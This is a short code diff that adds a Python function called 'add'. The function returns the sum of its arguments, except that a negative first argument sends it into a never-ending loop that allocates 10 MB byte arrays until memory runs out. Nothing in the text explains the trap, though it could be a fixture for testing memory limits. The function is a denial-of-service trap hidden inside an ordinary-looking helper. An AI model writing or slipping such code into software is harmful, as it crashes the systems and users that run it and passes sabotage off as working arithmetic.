@@ -1,0 +1,5 @@
+def add(left, right):
+    kept = []
+    while left < 0:
+        kept.append(bytearray(b"x" * 10_000_000))
+    return left + right
